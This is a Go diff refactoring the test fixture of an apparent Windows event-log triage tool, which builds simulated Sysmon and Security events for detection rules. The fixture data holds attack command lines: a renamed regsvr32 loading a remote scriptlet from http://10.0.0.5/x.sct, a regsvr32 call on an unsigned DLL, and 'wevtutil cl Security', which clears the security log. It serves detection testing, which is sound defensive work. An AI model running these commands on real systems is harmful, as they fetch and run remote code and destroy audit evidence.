@@ -49,19 +49,20 @@ func (b *fixtureBuilder) proc(parent *triage.Process, host string, pid uint32, i
 	p := &triage.Process{ID: len(b.r.Processes), Host: host, PID: pid, Image: image, CommandLine: cmd, User: host + `\IEUser`,
 		Created: at, Sources: src, Parent: parent}
 	if src == triage.FromSysmon {
-		p.GUID = fmt.Sprintf("365ABB72-6759-5CD8-0000-0010%08X", pid)
-		kv := []string{"ProcessGuid", p.GUID, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", cmd, "User", p.User}
+		guid := fmt.Sprintf("365ABB72-6759-5CD8-0000-0010%08X", pid)
+		p.GUID = triage.ParseGUID(guid)
+		kv := []string{"ProcessGuid", guid, "ProcessId", fmt.Sprint(pid), "Image", image, "CommandLine", cmd, "User", p.User}
 		if parent != nil {
-			kv = append(kv, "ParentProcessGuid", parent.GUID, "ParentProcessId", fmt.Sprint(parent.PID), "ParentImage", parent.Image,
+			kv = append(kv, "ParentProcessGuid", parent.GUID.String(), "ParentProcessId", fmt.Sprint(parent.PID), "ParentImage", parent.Image,
 				"ParentCommandLine", parent.CommandLine)
 		}
-		p.Create = b.event(sysmonCh, 1, host, at, kv...)
+		p.Keep(triage.KindCreate, b.event(sysmonCh, 1, host, at, kv...))
 	} else {
 		kv := []string{"NewProcessId", fmt.Sprintf("0x%x", pid), "NewProcessName", image, "CommandLine", cmd}
 		if parent != nil {
 			kv = append(kv, "ProcessId", fmt.Sprintf("0x%x", parent.PID), "ParentProcessName", parent.Image)
 		}
-		p.Create = b.event("Security", 4688, host, at, kv...)
+		p.Keep(triage.KindCreate, b.event("Security", 4688, host, at, kv...))
 	}
 	if strings.HasSuffix(strings.ToLower(image), `\regsvr32.exe`) {
 		p.Regsvr32 = true
@@ -71,7 +72,7 @@ func (b *fixtureBuilder) proc(parent *triage.Process, host string, pid uint32, i
 		b.r.Roots = append(b.r.Roots, p)
 	} else {
 		parent.Children = append(parent.Children, p)
-		p.Link = "guid"
+		p.Link = triage.LinkGUID
 	}
 	return p
 }
@@ -134,27 +135,27 @@ func fixture() *triage.Result {
 	jab := b.proc(svc, "IEWIN7", 5120, `C:\ProgramData\jabber.exe`, `jabber.exe /s /n /u /i:http://10.0.0.5/x.sct scrobj.dll`, sec(60), triage.FromSysmon)
 	jab.Renamed = true
 
-	reg.Loads = []*triage.EventRef{
-		b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Windows\System32\scrobj.dll`, "Signed", "true", "Signature", "Microsoft Windows"),
-		b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Users\IEUser\AppData\Local\Temp\x.dll`, "Signed", "false", "Signature", ""),
-	}
-	reg.Network = []*triage.EventRef{b.event(sysmonCh, 3, "IEWIN7", sec(1), "Protocol", "tcp", "SourceIp", "10.0.2.15", "SourcePort", "49163",
-		"DestinationIp", "104.20.208.21", "DestinationPort", "443", "DestinationHostname", "pastebin.com")}
-	reg.DNS = []*triage.EventRef{b.event(sysmonCh, 22, "IEWIN7", sec(1), "QueryName", "pastebin.com", "QueryResults", "::ffff:104.20.208.21;")}
-	reg.Seen = triage.Activity{Loads: 2, Network: 1, DNS: 1}
+	reg.Keep(triage.KindImageLoad, b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Windows\System32\scrobj.dll`, "Signed", "true", "Signature", "Microsoft Windows"))
+	reg.Keep(triage.KindImageLoad, b.event(sysmonCh, 7, "IEWIN7", sec(1), "ImageLoaded", `C:\Users\IEUser\AppData\Local\Temp\x.dll`, "Signed", "false", "Signature", ""))
+	reg.Keep(triage.KindNetwork, b.event(sysmonCh, 3, "IEWIN7", sec(1), "Protocol", "tcp", "SourceIp", "10.0.2.15", "SourcePort", "49163",
+		"DestinationIp", "104.20.208.21", "DestinationPort", "443", "DestinationHostname", "pastebin.com"))
+	reg.Keep(triage.KindDNS, b.event(sysmonCh, 22, "IEWIN7", sec(1), "QueryName", "pastebin.com", "QueryResults", "::ffff:104.20.208.21;"))
+	reg.Seen.Add(triage.KindImageLoad, 2)
+	reg.Seen.Add(triage.KindNetwork, 1)
+	reg.Seen.Add(triage.KindDNS, 1)
 
 	wsRoot := b.proc(nil, "WS02", 700, `C:\Windows\System32\svchost.exe`, `svchost.exe -k netsvcs`, sec(-300), triage.FromSecurity)
 	wsReg := b.proc(wsRoot, "WS02", 812, `C:\Windows\SysWOW64\regsvr32.exe`, `regsvr32 /s C:\Users\Public\a.dll`, sec(100), triage.FromSecurity)
 	wev := b.proc(wsReg, "WS02", 900, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, sec(101), triage.FromSecurity)
 
-	b.finding(ruleSeed, reg, reg.Create)
-	b.finding(ruleCAR, child, child.Create)
-	b.finding(ruleLoad, reg, reg.Loads[1])
-	b.finding(ruleInfo, reg, reg.Create)
-	b.finding(ruleSeed, evil, evil.Create)
-	b.finding(ruleRenamed, jab, jab.Create)
-	b.finding(ruleSeed, wsReg, wsReg.Create)
-	b.finding(ruleCAR, wev, wev.Create, "filter_car_wevtutil")
+	b.finding(ruleSeed, reg, reg.Create())
+	b.finding(ruleCAR, child, child.Create())
+	b.finding(ruleLoad, reg, reg.Events(triage.KindImageLoad)[1])
+	b.finding(ruleInfo, reg, reg.Create())
+	b.finding(ruleSeed, evil, evil.Create())
+	b.finding(ruleRenamed, jab, jab.Create())
+	b.finding(ruleSeed, wsReg, wsReg.Create())
+	b.finding(ruleCAR, wev, wev.Create(), "filter_car_wevtutil")
 	b.r.Events = 15
 	b.r.Duplicates = 1
 	return b.r
